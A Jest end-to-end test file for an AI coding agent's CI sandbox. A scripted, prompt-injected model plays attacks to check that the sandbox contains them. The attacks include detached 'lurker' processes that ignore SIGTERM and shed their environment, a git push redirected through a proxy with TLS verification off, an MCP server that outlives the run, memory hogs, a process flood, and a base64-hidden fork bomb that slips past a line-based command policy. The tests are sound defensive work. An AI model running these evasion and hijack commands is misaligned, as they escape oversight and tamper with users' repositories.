import { afterEach, describe, expect, it } from '@jest/globals'
import { execFileSync } from 'node:child_process'
import { bash } from '../../__fixtures__/scripts.js'
import { aliceFiles, e2eSuite } from '../../__fixtures__/e2e-suite.js'
import {
  type E2E,
  issueCommentEvent,
  RUN_ID
} from '../../__fixtures__/e2e-harness.js'
import { mcpTestServer } from '../../__fixtures__/mcp-test-command.js'
import {
  type RecordingProxy,
  startRecordingProxy
} from '../../__fixtures__/recording-proxy.js'
import type { ScriptStep } from '../../__fixtures__/scripted-model.js'

// Nothing a command starts outlives its call, and the caps are for the
// whole command (docs/security.md item 16), through the bundle, in each CI
// configuration: as root with bubblewrap, and as a hosted runner's
// `runner` user with sudo, with and without a working bubblewrap
// (E2E_RUN_AS, E2E_BROKEN_BWRAP). A prompt-injected agent plays each
// attack with a scripted model.

const start = e2eSuite()
const proxies: RecordingProxy[] = []
afterEach(async () => {
  for (const proxy of proxies.splice(0)) await proxy.close()
})

async function setup(script: ScriptStep[]): Promise<E2E> {
  return aliceFiles(await start(script))
}

/** Live processes whose command line holds `mark`. */
function alive(mark: string): string[] {
  return execFileSync('ps', ['-eo', 'pid=,args='], { encoding: 'utf8' })
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => line.includes(mark) && !line.includes('ps -eo'))
}

/** The text of every tool result the model was sent. */
function toolResults(env: E2E): string {
  return env.model.requests
    .flatMap(
      (request) =>
        (request.messages as { role: string; content: unknown }[]) ?? []
    )
    .filter((message) => message.role === 'tool')
    .map((message) => String(message.content))
    .join('\n---\n')
}

describe.each(['auto', 'none'])(
  'nothing outlives its call (sandbox: %s)',
  (sandbox) => {
    it('a command that times out, leaves its session, drops its environment and waits for publishing is gone before it: the push goes to the real remote only', async () => {
      const script: ScriptStep[] = []
      const env = await setup(script)
      const proxy = await startRecordingProxy()
      proxies.push(proxy)
      const mark = `lurker-${process.pid}-${sandbox}`
      // It edits a file, then waits for the blob git add writes when the
      // action publishes, and only then steers the push through its proxy.
      const lurker = [
        'echo "// fixed" >> src/dates.js',
        'obj=$(git hash-object src/dates.js)',
        `cat > "$TMPDIR/${mark}.sh" <<EOF`,
        'while [ ! -e .git/objects/${obj:0:2}/${obj:2} ]; do sleep 0.05; done',
        `git config http.proxy http://127.0.0.1:${proxy.port}`,
        'git config http.sslVerify false',
        'while :; do sleep 1; done',
        'EOF',
        'trap "" TERM',
        `exec env -i PATH=/usr/bin:/bin setsid sh "$TMPDIR/${mark}.sh" ${mark}`
      ].join('\n')
      script.push(bash(lurker, 3), {
        text: 'Title: Fix the month\n\nFixed the month.'
      })
      const result = await env.run(issueCommentEvent('/agent fix the month'), {
        sandbox,
        bash: 'true'
      })
      const left = alive(mark)
      for (const line of left)
        process.kill(Number(line.split(' ')[0]), 'SIGKILL')
      expect(left).toEqual([])
      expect(proxy.seen).toEqual([])
      expect(result.outputs.conclusion).toBe('changed')
      const branch = `agent/issue-7-${RUN_ID}`
      expect(env.bare(['show', `${branch}:src/dates.js`])).toContain('// fixed')
    }, 60_000)
  }
)

describe('nothing outlives its MCP server (sandbox: auto)', () => {
  it('a stdio server that outlives its stdin and leaves a process in a new session without its environment is gone, with that process, when the run closes it', async () => {
    const script: ScriptStep[] = [{ text: 'Nothing to do.' }]
    const env = await setup(script)
    const mark = `mcp-lurker-${process.pid}`
    const server = mcpTestServer('--tag', mark)
    const mcpServers = JSON.stringify({
      mcpServers: {
        notes: {
          // In a session of its own and without the run's environment (and
          // its marker), from the start.
          command: 'setsid',
          args: [
            'env',
            '-i',
            'PATH=/usr/local/bin:/usr/bin:/bin',
            'sh',
            '-c',
            // A lurker in a new session, and a server that lives on after
            // its stdin closes and ignores SIGTERM.
            `trap "" TERM; setsid env -i sh -c 'trap "" TERM; sleep 300' ${mark} </dev/null >/dev/null 2>&1 & "$@"; sleep 300`,
            'sh',
            server.command,
            ...server.args
          ]
        }
      }
    })
    const result = await env.run(issueCommentEvent('/agent fix the month'), {
      bash: 'true',
      'mcp-servers': mcpServers
    })
    expect(result.stdout + result.stderr).toContain('mcp__notes__')
    const left = alive(mark)
    for (const line of left) process.kill(Number(line.split(' ')[0]), 'SIGKILL')
    expect(left).toEqual([])
  }, 60_000)
})

describe('caps for the whole command (sandbox: auto)', () => {
  const mark = `oomhold-${process.pid}`
  const hog = `const b = Buffer.alloc(150 * 2 ** 20, 1); setTimeout(() => b, 60000)`
  it.each([
    [
      'four processes of 150 MiB under a 300 MB cap: the command is killed and the model told it ran out of memory',
      `for i in 1 2 3 4; do node -e "${hog}" ${mark} & done; wait; echo all-done`
    ],
    [
      // The class, not one shape: killed whole by the watcher, not one process by the kernel.
      'memory hogs that leave the process group, drop their environment and wait are killed with the whole command at its cap',
      [
        'N=$(command -v node)',
        `for i in 1 2 3; do setsid -f env -i "$N" -e "${hog}" ${mark}; done`,
        `setsid -f env -i /bin/sh -c 'sleep 40' ${mark}`,
        'sleep 40; echo all-done'
      ].join('; ')
    ]
  ])(
    '%s',
    async (_name, command) => {
      const script: ScriptStep[] = []
      const env = await setup(script)
      script.push(bash(command, 50), bash('echo next-works'), { text: 'Done.' })
      await env.run(issueCommentEvent('/agent fix the month'), {
        bash: 'true',
        'command-memory-mb': '300'
      })
      const results = toolResults(env)
      expect(results).toMatch(
        /^exit=137 \(killed after [\d.]+ s: out of memory\)/
      )
      expect(results).toContain(
        '[the command ran out of memory: all its processes together reached 300 MiB, its cap (command-memory-mb), and it was killed.'
      )
      expect(results).not.toContain('all-done')
      expect(results).toContain('next-works')
      expect(alive(mark)).toEqual([])
    },
    60_000
  )

  it('300 processes under a cap of 200: the starts past it are refused, and said so', async () => {
    const script: ScriptStep[] = []
    const env = await setup(script)
    const mark = `capped-${process.pid}`
    script.push(
      // dash reports a failed fork and goes on, or gives up at the first
      // ("Cannot fork"); bash retries. Either way at least one start is
      // refused past the cap, and the result says how many.
      bash(
        `sh -c 'i=0; while [ $i -lt 300 ]; do sh -c "sleep 30" ${mark} >/dev/null 2>&1 & i=$((i+1)); done; echo spawned'`
      ),
      { text: 'Done.' }
    )
    await env.run(issueCommentEvent('/agent fix the month'), {
      bash: 'true',
      'command-processes': '200'
    })
    const results = toolResults(env)
    expect(results).toMatch(
      /\d+ process starts? (?:was|were) refused: the command reached its cap of 200 processes and threads for all its processes together \(command-processes\)\]/
    )
    expect(alive(mark)).toEqual([])
  }, 60_000)

  it('a fork bomb ends at the cap, whoever runs it (root too), and the next command works', async () => {
    const script: ScriptStep[] = []
    const env = await setup(script)
    script.push(
      // From a script the line does not show: the command policy
      // reads lines, not files (it is a guard; the cgroup is the cap).
      bash(
        'echo YigpIHsgYiB8IGIgJiB9OyBi | base64 -d > "$TMPDIR/b.sh"; bash "$TMPDIR/b.sh"; sleep 3',
        2
      ),
      bash('echo next-works'),
      { text: 'Done.' }
    )
    const result = await env.run(issueCommentEvent('/agent fix the month'), {
      bash: 'true',
      'command-processes': '128'
    })
    const results = toolResults(env)
    expect(results).toMatch(/process starts? (?:was|were) refused/)
    expect(results).toContain('next-works')
    expect(result.outputs.conclusion).not.toBe('failed')
  }, 60_000)
})
